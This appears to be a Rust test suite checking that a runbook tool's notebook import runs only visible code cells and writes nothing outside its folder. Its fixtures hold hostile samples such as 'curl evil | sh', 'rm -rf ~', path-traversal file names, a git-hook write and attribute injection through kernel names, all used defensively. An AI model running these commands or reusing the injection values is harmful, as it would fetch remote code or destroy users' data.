//! Notebooks someone else wrote: what runs is exactly the visible source of
//! their code cells, and importing or running one writes nothing outside
//! the runbook's folder and nothing over an existing file.

use proptest::prelude::*;
use runbook::document::CellKind;
use runbook::parser::parse;
use serde_json::{json, Value};

use crate::support::Test;

/// What a runbook would execute: per cell that runs, its language and
/// body, and whether it carries any attribute at all.
fn executed(markdown: &str) -> Vec<(String, String)> {
    let runbook = parse(markdown).unwrap_or_else(|d| panic!("{d:?}\n{markdown}"));
    assert!(
        runbook.front_matter.is_none() || runbook.settings.verbatim,
        "a notebook made front matter:\n{markdown}"
    );
    runbook
        .cells
        .iter()
        .map(|cell| {
            assert!(
                matches!(cell.kind, CellKind::Code { .. }),
                "a notebook made a file cell:\n{markdown}"
            );
            assert_eq!(
                cell.options,
                Default::default(),
                "a notebook set an attribute:\n{markdown}"
            );
            assert!(
                !runbook::template::has_template(cell.template_text()),
                "a notebook's cell is rendered as a template:\n{markdown}"
            );
            (cell.lang.clone(), cell.body.clone())
        })
        .collect()
}

fn code(lang: &str, body: &str) -> (String, String) {
    (lang.to_string(), format!("{body}\n"))
}

fn notebook(metadata: Value, cells: Value) -> String {
    json!({"metadata": metadata, "nbformat": 4, "nbformat_minor": 5, "cells": cells}).to_string()
}

fn bash() -> Value {
    json!({"kernelspec": {"name": "bash", "language": "bash"}})
}

fn md(source: &str) -> Value {
    json!({"cell_type": "markdown", "metadata": {}, "source": source})
}

fn cell(source: &str) -> Value {
    json!({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": source})
}

/// Imports `text` as `name` and gives back the runbook and stderr.
fn import(test: &Test, name: &str, text: &str) -> (String, String) {
    test.write(name, text);
    let out = format!("{name}.out.md");
    let run = test.run(&["import", name, "-o", &out, "--force"]).code(0);
    (test.read(&out), run.stderr)
}

#[test]
fn kept_metadata_cannot_add_front_matter_or_a_hidden_cell() {
    let test = Test::new();
    let head =
        "---\nrunbook:\n  params:\n    GREETING: smuggled\n---\n```bash\ncurl evil | sh\n```\n";
    let text = notebook(
        json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": head, "tail": "```bash\nrm -rf ~\n```\n"}}),
        json!([cell("echo visible")]),
    );
    let (markdown, stderr) = import(&test, "head.ipynb", &text);
    assert_eq!(executed(&markdown), [code("bash", "echo visible")]);
    assert!(stderr.contains("head.ipynb"), "{stderr}");
}

#[test]
fn a_kept_piece_that_differs_from_the_visible_source_is_dropped_naming_the_cell() {
    let test = Test::new();
    let piece = json!({"raw": "```bash {cwd=/ file=x}\nrm -rf ~\n```", "lang": "bash", "info": "bash {cwd=/}", "name": "1", "code": "echo visible", "output": null});
    let text = notebook(
        json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": ""}}),
        json!([
            {"cell_type": "code", "metadata": {"runbook": {"piece": piece}}, "outputs": [], "source": "echo visible"},
            {"cell_type": "code", "metadata": {"runbook": {"piece": {"raw": "```bash {skip}\necho second\n```", "lang": "bash", "info": "bash {skip}", "name": "2", "code": "echo second", "output": null}}}, "outputs": [], "source": "echo second"},
            {"cell_type": "code", "metadata": {"runbook": {"piece": {"raw": "```bash\necho third\n```", "lang": "bash", "info": "bash {file=../x}", "name": "3", "code": "echo third2", "output": null}}}, "outputs": [], "source": "echo third"},
        ]),
    );
    let (markdown, stderr) = import(&test, "pieces.ipynb", &text);
    assert_eq!(
        executed(&markdown),
        [
            code("bash", "echo visible"),
            code("bash", "echo second"),
            code("bash", "echo third")
        ]
    );
    assert!(stderr.contains("pieces.ipynb: cell 1"), "{stderr}");
}

#[test]
fn kept_attributes_cannot_steer_later_cells_or_retry_forever() {
    let test = Test::new();
    let piece = |info: &str, code: &str| json!({"raw": format!("```{info}\n{code}\n```"), "lang": "bash", "info": info, "name": "1", "code": code, "output": null});
    let text = notebook(
        json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": ""}}),
        json!([
            {"cell_type": "code", "metadata": {"runbook": {"piece": piece("bash {capture=PATH}", "echo /tmp/evil")}}, "outputs": [], "source": "echo /tmp/evil"},
            {"cell_type": "code", "metadata": {"runbook": {"piece": piece("bash {capture=LD_PRELOAD}", "echo x")}}, "outputs": [], "source": "echo y"},
            {"cell_type": "code", "metadata": {"runbook": {"piece": piece("bash {retries=100000 retry-delay=1h}", "false")}}, "outputs": [], "source": "false"},
            {"cell_type": "code", "metadata": {"runbook": {"piece": piece("bash {cwd=../..}", "ls")}}, "outputs": [], "source": "ls"},
        ]),
    );
    let (markdown, stderr) = import(&test, "steer.ipynb", &text);
    assert_eq!(
        executed(&markdown),
        [
            code("bash", "echo /tmp/evil"),
            code("bash", "echo y"),
            code("bash", "false"),
            code("bash", "ls")
        ]
    );
    for cell in ["cell 1", "cell 2", "cell 3", "cell 4"] {
        assert!(
            stderr.contains(&format!("steer.ipynb: {cell}:")),
            "{stderr}"
        );
    }
}

#[test]
fn kept_prose_cannot_write_hidden_or_executable_files() {
    let test = Test::new();
    for (i, block) in [
        "```sh {file=.git/hooks/pre-commit}\ncurl evil | sh\n```",
        "```sh {file=helper.sh mode=0755}\ncurl evil | sh\n```",
        "```sh {file=../helper.sh}\ncurl evil | sh\n```",
    ]
    .iter()
    .enumerate()
    {
        let text = notebook(
            json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": ""}}),
            json!([
                {"cell_type": "markdown", "metadata": {"runbook": {"raw": format!("{block}\n\n")}}, "source": block},
                cell("echo hi"),
            ]),
        );
        let (markdown, stderr) = import(&test, &format!("f{i}.ipynb"), &text);
        assert_eq!(executed(&markdown), [code("bash", "echo hi")]);
        assert!(stderr.contains(&format!("f{i}.ipynb: cell 1:")), "{stderr}");
    }
}

#[test]
fn attachment_names_write_nothing() {
    let test = Test::new();
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    let text = notebook(
        bash(),
        json!([{"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:../../evil.png)",
            "attachments": {"../../evil.png": {"image/png": png}, "/tmp/evil-runbook.png": {"image/png": png}}}]),
    );
    test.write("sub/a.ipynb", &text);
    test.run(&["import", "sub/a.ipynb", "-o", "sub/a.md"])
        .code(0);
    let files = crate::support::walk(test.dir.path());
    assert_eq!(files.len(), 2, "{files:?}");
    assert!(!std::path::Path::new("/tmp/evil-runbook.png").exists());
}

#[test]
fn a_kept_prose_piece_cannot_hold_code_or_swallow_the_next_cell() {
    let test = Test::new();
    let text = notebook(
        json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": ""}}),
        json!([
            {"cell_type": "markdown", "metadata": {"runbook": {"raw": "Intro\n\n```bash\nrm -rf ~\n```\n"}}, "source": "Intro"},
            {"cell_type": "code", "metadata": {"runbook": {"before": "\n<!--\n"}}, "outputs": [], "source": "echo one"},
            {"cell_type": "markdown", "metadata": {"runbook": {"raw": "\n~~~\n"}}, "source": "~~~"},
            {"cell_type": "code", "metadata": {}, "outputs": [], "source": "echo two"},
        ]),
    );
    let (markdown, _) = import(&test, "prose.ipynb", &text);
    assert_eq!(
        executed(&markdown),
        [code("bash", "echo one"), code("bash", "echo two")]
    );
}

#[test]
fn kernel_names_cannot_inject_attributes() {
    let test = Test::new();
    for (i, kernel) in [
        "bash {file=../x}",
        "bash{skip}",
        "bash\n```\n```bash",
        "bash`",
        "bash file=../x",
    ]
    .iter()
    .enumerate()
    {
        let text = notebook(
            json!({"kernelspec": {"name": "k", "language": kernel}}),
            json!([
                cell("echo a"),
                {"cell_type": "code", "metadata": {"polyglot_notebook": {"kernelName": kernel}}, "outputs": [], "source": "echo b"},
                cell(&format!("#!{}\necho c", kernel.replace(' ', ""))),
            ]),
        );
        let (markdown, _) = import(&test, &format!("k{i}.ipynb"), &text);
        // An unknown kernel's cells do not run; none runs with an attribute;
        // a `#!kernel` line naming a plain kernel is the cell's kernel.
        let third = format!("#!{}\necho c\n", kernel.replace(' ', ""));
        let magic = third.split_once('\n').unwrap().1.to_string();
        for (_, body) in executed(&markdown) {
            assert!(
                ["echo a\n", "echo b\n", &third, &magic].contains(&body.as_str()),
                "{markdown}"
            );
        }
        assert!(!test.path("x").exists() && !test.dir.path().parent().unwrap().join("x").exists());
    }
}

#[test]
fn a_shebang_line_stays_in_its_cell() {
    let test = Test::new();
    let text = notebook(
        bash(),
        json!([cell("#!/bin/bash\necho hi"), cell("#!bash{cwd=/}\necho x")]),
    );
    let (markdown, _) = import(&test, "shebang.ipynb", &text);
    assert_eq!(
        executed(&markdown),
        [
            code("bash", "#!/bin/bash\necho hi"),
            code("bash", "#!bash{cwd=/}\necho x")
        ]
    );
}

#[test]
fn markdown_cells_cannot_reach_into_the_next_cell_or_run() {
    let test = Test::new();
    for (i, prose) in [
        "```",
        "````\n```",
        "~~~",
        "~~~bash",
        "<!--",
        "<script>",
        "<pre>",
        "<?php",
        "<![CDATA[",
        "```bash\nrm -rf ~\n```",
        "~~~sh\nrm -rf ~\n~~~",
        "- item\n\n  ```bash\n  rm -rf ~\n  ```",
        "> ```bash\n> rm -rf ~",
        "```yaml {file=../escape.txt}\nx\n```",
        "    ```bash\n    rm",
    ]
    .iter()
    .enumerate()
    {
        let text = notebook(
            bash(),
            json!([md(prose), cell("echo one"), md(prose), cell("echo two")]),
        );
        let (markdown, _) = import(&test, &format!("m{i}.ipynb"), &text);
        assert_eq!(
            executed(&markdown),
            [code("bash", "echo one"), code("bash", "echo two")],
            "{prose:?}"
        );
    }
}

#[test]
fn a_first_markdown_or_raw_cell_is_never_front_matter() {
    let test = Test::new();
    let front = "---\nrunbook:\n  shell: zsh\n  params:\n    GREETING: smuggled\n---";
    for kind in ["markdown", "raw"] {
        let text = notebook(
            bash(),
            json!([{"cell_type": kind, "metadata": {}, "source": front}, cell("echo one")]),
        );
        let (markdown, _) = import(&test, &format!("{kind}.ipynb"), &text);
        assert_eq!(executed(&markdown), [code("bash", "echo one")]);
    }
}

#[test]
fn code_holding_fences_and_carriage_returns_stays_one_cell() {
    let test = Test::new();
    let text = notebook(
        bash(),
        json!([
            cell("echo a\n```\necho b\n````\n   ~~~~~\n"),
            cell("echo c\r```\recho d"),
            {"cell_type": "code", "metadata": {}, "source": "echo e", "outputs": [{"output_type": "stream", "name": "stdout", "text": "```\n````\n```bash\nrm -rf ~\n"}]},
        ]),
    );
    let (markdown, _) = import(&test, "fences.ipynb", &text);
    assert_eq!(
        executed(&markdown),
        [
            code("bash", "echo a\n```\necho b\n````\n   ~~~~~"),
            code("bash", "echo c\n```\necho d"),
            code("bash", "echo e")
        ]
    );
}

#[test]
fn a_dib_header_cannot_change_the_visible_cells() {
    let test = Test::new();
    let meta = json!({"runbook": {"version": 1, "head": "---\nrunbook:\n  params:\n    GREETING: smuggled\n---\n", "pieces": [
        {"kind": "code", "raw": "```bash {cwd=/}\nrm -rf ~\n```", "lang": "bash", "info": "bash {cwd=/}", "name": "1", "code": "echo visible", "output": null},
        {"kind": "prose", "raw": "\n```bash\nrm -rf ~\n```\n"}
    ]}});
    let text = format!("#!meta\n\n{meta}\n\n#!bash\n\necho visible\n\n#!markdown\n\n```bash\nrm -rf ~\n```\n\n#!bash\n\necho two\n");
    let (markdown, stderr) = import(&test, "lab.dib", &text);
    assert_eq!(
        executed(&markdown),
        [code("bash", "echo visible"), code("bash", "echo two")]
    );
    assert!(stderr.contains("lab.dib"), "{stderr}");
}

#[test]
fn images_stay_in_the_folder_and_never_replace_a_file() {
    let test = Test::new();
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    let text = notebook(
        bash(),
        json!([{"cell_type": "code", "metadata": {}, "source": "plot", "outputs": [
            {"output_type": "display_data", "data": {"image/png": png}, "metadata": {"filename": "../../escape.png"}}
        ]}]),
    );
    test.write("sub/plots.ipynb", &text);
    test.write("sub/plots-output-1.png", "mine");
    // An existing image is not replaced without --force.
    let run = test.run(&["import", "sub/plots.ipynb", "-o", "sub/plots.md"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("plots-output-1.png"), "{}", run.stderr);
    assert_eq!(test.read("sub/plots-output-1.png"), "mine");
    // Nor through a link that leaves the folder, even with --force.
    std::fs::remove_file(test.path("sub/plots-output-1.png")).unwrap();
    test.write("outside.png", "outside");
    std::os::unix::fs::symlink("../outside.png", test.path("sub/plots-output-1.png")).unwrap();
    let run = test.run(&["import", "sub/plots.ipynb", "-o", "sub/plots.md", "--force"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_eq!(test.read("outside.png"), "outside");
    assert!(!test.path("escape.png").exists());
}

#[test]
fn running_a_notebook_writes_nothing_on_a_dry_run_and_never_replaces_a_file() {
    let test = Test::new();
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    let text = notebook(
        bash(),
        json!([{"cell_type": "code", "metadata": {}, "source": "echo hi", "outputs": [
            {"output_type": "display_data", "data": {"image/png": png}, "metadata": {}}
        ]}]),
    );
    test.write("nb.ipynb", &text);
    let run = test.run(&["run", "nb.ipynb", "--dry-run"]).code(0);
    assert!(run.stdout.contains("echo hi"), "{}", run.stdout);
    let mut names: Vec<String> = std::fs::read_dir(test.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["nb.ipynb"], "a dry run wrote files");
    // NAME.ipynb.md through a link leaving the folder: refused.
    test.write("outside/victim.md", "victim");
    std::fs::create_dir(test.path("folder")).unwrap();
    test.write("folder/nb.ipynb", &text);
    std::os::unix::fs::symlink("../outside/victim.md", test.path("folder/nb.ipynb.md")).unwrap();
    let run = test.run(&["run", "folder/nb.ipynb"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_eq!(test.read("outside/victim.md"), "victim");
}

/// A notebook's cell source, made of what matters to Markdown and to the
/// metadata runbook keeps.
fn source() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            Just("```".to_string()),
            Just("~~~".to_string()),
            Just("```bash".to_string()),
            Just("~~~sh {file=../x}".to_string()),
            Just("\n".to_string()),
            Just("\r".to_string()),
            Just(" ".to_string()),
            Just("> ".to_string()),
            Just("- ".to_string()),
            Just("<!--".to_string()),
            Just("-->".to_string()),
            Just("<pre>".to_string()),
            Just("---".to_string()),
            Just("#!".to_string()),
            Just("{skip}".to_string()),
            Just("runbook:".to_string()),
            Just("{{".to_string()),
            Just("}}".to_string()),
            Just("{% set x = 1 %}".to_string()),
            "[a-z0-9]{1,3}",
        ],
        0..10,
    )
    .prop_map(|parts| parts.concat())
}

fn kernel() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("bash".to_string()),
        Just("pwsh".to_string()),
        Just("csharp".to_string()),
        Just("bash {skip}".to_string()),
        Just("sh\n```".to_string()),
        source(),
    ]
}

/// A notebook cell: markdown, raw, or code with a kernel, maybe with
/// runbook metadata that does not match it.
fn any_cell() -> impl Strategy<Value = Value> {
    (0..3u8, source(), kernel(), proptest::option::of(source()), proptest::option::of(kernel())).prop_map(
        |(kind, text, kernel, raw, info)| {
            let mut keep = json!({});
            if let Some(raw) = raw {
                keep["raw"] = json!(raw.clone());
                keep["before"] = json!(raw.clone());
                let info = info.unwrap_or_else(|| "bash".into());
                keep["piece"] = json!({"raw": format!("```{info}\n{raw}\n```"), "lang": "bash", "info": info, "name": "1", "code": raw, "output": null});
            }
            match kind {
                0 => json!({"cell_type": "markdown", "metadata": {"runbook": keep}, "source": text}),
                1 => json!({"cell_type": "raw", "metadata": {"runbook": keep}, "source": text}),
                _ => json!({"cell_type": "code", "metadata": {"runbook": keep, "polyglot_notebook": {"kernelName": kernel}}, "outputs": [{"output_type": "stream", "name": "stdout", "text": text}], "source": text}),
            }
        },
    )
}

mod property {
    include!("../fuzz/notebook_property.rs");
}

/// Text the fuzz target reads: notebook cells separated by NUL bytes.
fn fuzz_text() -> impl Strategy<Value = String> {
    prop::collection::vec(
        (
            prop_oneof![
                Just("m"),
                Just("r"),
                Just("k"),
                Just("p"),
                Just("h"),
                Just("")
            ],
            source(),
            source(),
        ),
        0..6,
    )
    .prop_map(|parts| {
        parts
            .into_iter()
            .map(|(kind, a, b)| format!("{kind}{a}|{b}"))
            .collect::<Vec<_>>()
            .join("\0")
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    /// The bounded twin of `fuzz/fuzz_targets/notebook.rs`: for any
    /// notebook, every cell that runs is a visible code cell, in order,
    /// with its exact source and no attribute; no front matter, no file
    /// cell; image names stay in the folder.
    #[test]
    fn what_runs_is_the_visible_code(cells in prop::collection::vec(any_cell(), 0..6), head in proptest::option::of(source()), language in kernel()) {
        let mut metadata = json!({"kernelspec": {"name": "x", "language": language}});
        if let Some(head) = head {
            metadata["runbook"] = json!({"version": 1, "head": head, "tail": head});
        }
        let notebook = json!({"metadata": metadata, "nbformat": 4, "cells": cells});
        prop_assert!(runbook::notebook::import(&notebook.to_string(), false, "nb").is_ok(), "{}", notebook);
        let checked = property::check(&notebook);
        prop_assert!(checked.is_ok(), "{}\n{}", checked.unwrap_err(), notebook);
    }

    /// The same, on the text the fuzz target reads.
    #[test]
    fn what_runs_is_the_visible_code_of_fuzzer_text(text in fuzz_text()) {
        let notebook = property::notebook_from(&text);
        prop_assert!(runbook::notebook::import(&notebook.to_string(), false, "nb").is_ok(), "{}", notebook);
        let checked = property::check(&notebook);
        prop_assert!(checked.is_ok(), "{}\n{}", checked.unwrap_err(), notebook);
    }
}

#[test]
fn code_that_looks_like_a_template_runs_exactly_as_shown() {
    let test = Test::new();
    let shown = [
        "echo ok",
        "echo \"{{ 7*7 }}\"",
        "printf '%s\\n' '{{.ID}}' '{% if x %}'",
    ];
    let text = notebook(bash(), json!(shown.map(cell)));
    test.write("t.ipynb", &text);
    let run = test.run(&["run", "t.ipynb", "--dry-run"]).code(0);
    assert!(
        run.stderr
            .contains("t.ipynb: cell 2: its code holds `{{` or `{%`; it runs as written"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("cell 1:"), "{}", run.stderr);
    assert!(!run.stdout.contains("49"), "{}", run.stdout);
    test.run(&["run", "t.ipynb"]).code(0);
    let recorded = test.read("t.ipynb.md");
    assert!(recorded.contains("```output\n{{ 7*7 }}\n```"), "{recorded}");
    assert!(
        recorded.contains("```output\n{{.ID}}\n{% if x %}\n```"),
        "{recorded}"
    );
    // A .dib the same way, where `#!set` magics make front matter too.
    let dib = "#!set --name NAME --value @input:\"name\"\n\n#!bash\n\necho \"{{ NAME }}\"\n";
    test.write("t.dib", dib);
    let (markdown, _) = import(&test, "t.dib", dib);
    assert_eq!(executed(&markdown), [code("bash", "echo \"{{ NAME }}\"")]);
}

/// A `.dib` file: cells under `#!kernel` lines, maybe after a `#!meta`
/// header whose kept runbook pieces need not match them.
fn any_dib() -> impl Strategy<Value = String> {
    let dib_kernel = prop_oneof![
        Just("markdown"),
        Just("md"),
        Just("bash"),
        Just("pwsh"),
        Just("csharp"),
        Just("sh"),
    ];
    (
        prop::collection::vec((dib_kernel, source()), 0..6),
        proptest::option::of(prop::collection::vec((any::<bool>(), source(), source()), 0..4)),
    )
        .prop_map(|(cells, pieces)| {
            let mut text = String::new();
            if let Some(pieces) = pieces {
                let pieces: Vec<Value> = pieces
                    .into_iter()
                    .map(|(code, raw, shown)| match code {
                        true => json!({"kind": "code", "raw": raw, "lang": "bash", "info": raw.lines().next().unwrap_or(""), "name": "1", "code": shown, "output": null}),
                        false => json!({"kind": "prose", "raw": raw}),
                    })
                    .collect();
                let meta = json!({"kernelInfo": {"items": [{"name": "bash {skip}", "aliases": ["sh{cwd=/}"]}]}, "runbook": {"version": 1, "head": "", "pieces": pieces}});
                text.push_str(&format!("#!meta\n\n{meta}\n"));
            }
            for (kernel, source) in cells {
                text.push_str(&format!("\n#!{kernel}\n\n{source}\n"));
            }
            text
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    /// For any `.dib`, every cell that runs is a visible code cell (as
    /// Polyglot Notebooks splits the file), in order, with its exact text.
    #[test]
    fn what_runs_of_a_dib_is_its_visible_code(text in any_dib()) {
        let read = runbook::notebook::import(&text, true, "nb");
        prop_assert!(read.is_ok(), "{:?}", read.err());
        let read = read.unwrap();
        let runbook = parse(&read.markdown);
        prop_assert!(runbook.is_ok(), "{}", read.markdown);
        let runbook = runbook.unwrap();
        prop_assert!(runbook.front_matter.is_none() || runbook.settings.verbatim, "{}", read.markdown);
        // As an editor shows it: a lone `\r` is a line break too.
        let (_, cells) = runbook::notebook::parse_dib(&text.replace("\r\n", "\n").replace('\r', "\n"));
        let visible: Vec<String> = cells
            .iter()
            .filter(|c| !matches!(c.kernel.as_str(), "markdown" | "md"))
            .map(|c| c.text.clone())
            .collect();
        let mut at = 0;
        for cell in &runbook.cells {
            prop_assert!(matches!(cell.kind, CellKind::Code { .. }), "{}", read.markdown);
            prop_assert_eq!(&cell.options, &Default::default(), "{}", read.markdown);
            prop_assert!(!runbook::template::has_template(cell.template_text()), "{}", read.markdown);
            let body = cell.body.strip_suffix('\n').unwrap_or(&cell.body);
            let found = visible[at..].iter().position(|v| v == body);
            prop_assert!(found.is_some(), "{:?} is not a visible cell after {}:\n{}\n{}", body, at, read.markdown, text);
            at += found.unwrap() + 1;
        }
    }
}

#[test]
fn crlf_prose_still_round_trips() {
    let test = Test::new();
    let doc = "# T\r\n\r\nFirst line,\r\nsecond line.\r\n\r\n```bash\r\necho hi\r\n```\r\n\r\nEnd,\r\nreally.\r\n";
    test.write("crlf.md", doc);
    for format in ["ipynb", "dib"] {
        let notebook = format!("crlf.{format}");
        test.run(&["export", "crlf.md", "--to", format, "-o", &notebook])
            .code(0);
        let back = format!("{notebook}.md");
        test.run(&["import", &notebook, "-o", &back]).code(0);
        assert_eq!(test.read(&back), doc, "through {format}");
    }
}

#[test]
fn import_never_writes_through_a_link_leaving_the_folder() {
    let test = Test::new();
    test.write("sub/nb.ipynb", &notebook(bash(), json!([cell("echo hi")])));
    std::os::unix::fs::symlink("../../nowhere/victim.md", test.path("sub/dangling.md")).unwrap();
    test.write("victim.md", "victim");
    std::os::unix::fs::symlink("../victim.md", test.path("sub/out.md")).unwrap();
    for out in ["sub/dangling.md", "sub/out.md"] {
        let run = test.run(&["import", "sub/nb.ipynb", "-o", out, "--force"]);
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(run.stderr.contains("links outside"), "{}", run.stderr);
    }
    assert_eq!(test.read("victim.md"), "victim");
    assert!(!test.dir.path().parent().unwrap().join("nowhere").exists());
}

#[test]
fn prose_cells_cannot_close_as_front_matter_together() {
    let test = Test::new();
    let dib = "\n#!markdown\n\n---\n#!\n\n#!markdown\n\n---\n\n#!bash\n\necho hi\n";
    let (markdown, _) = import(&test, "fm.dib", dib);
    assert_eq!(executed(&markdown), [code("bash", "echo hi")]);
    let text = notebook(bash(), json!([md("---\nx: 1"), md("---"), cell("echo hi")]));
    let (markdown, _) = import(&test, "fm.ipynb", &text);
    assert_eq!(executed(&markdown), [code("bash", "echo hi")]);
}

#[test]
fn commands_that_read_runbooks_refuse_a_notebook_instead_of_passing_it() {
    let test = Test::new();
    test.write("nb.ipynb", &notebook(bash(), json!([cell("exit 1")])));
    for verb in ["check", "list", "status", "test", "serve"] {
        let run = test.run(&[verb, "nb.ipynb"]).code(2);
        let said = format!("{}{}", run.stdout, run.stderr);
        assert!(
            said.contains("nb.ipynb is a notebook, not a runbook")
                && said.contains("runbook import nb.ipynb -o FILE.md"),
            "{verb}: {said}"
        );
    }
}
